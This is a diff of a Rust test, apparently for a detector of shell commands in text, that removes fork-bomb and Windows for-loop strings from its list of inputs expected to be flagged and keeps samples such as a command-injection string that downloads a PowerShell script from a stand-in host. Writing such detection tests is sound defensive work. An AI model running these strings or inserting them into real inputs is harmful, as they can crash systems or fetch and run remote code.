@@ -192,10 +192,6 @@ fn commands_are_found() {
         Place::Text,
         &[
             "ls -l /etc/group",
-            ":(){ :|:& };:",
-            "x() { x | x & }; x",
-            "for /f %x in (a b) do y",
-            "for %%x in (a) do y",
             "7;iwr http://x.example/y.ps1",
             "x; cat /etc/x",
             "x|id",
@@ -217,8 +213,6 @@ fn commands_are_found() {
         Place::Text,
         &[
             "function f() { return a || b && c }",
-            "f() { return a | b & c }",
-            "100% in (or out of) it",
             "ls -l of the folder",
             "cats & dogs",
             "a; sort of",
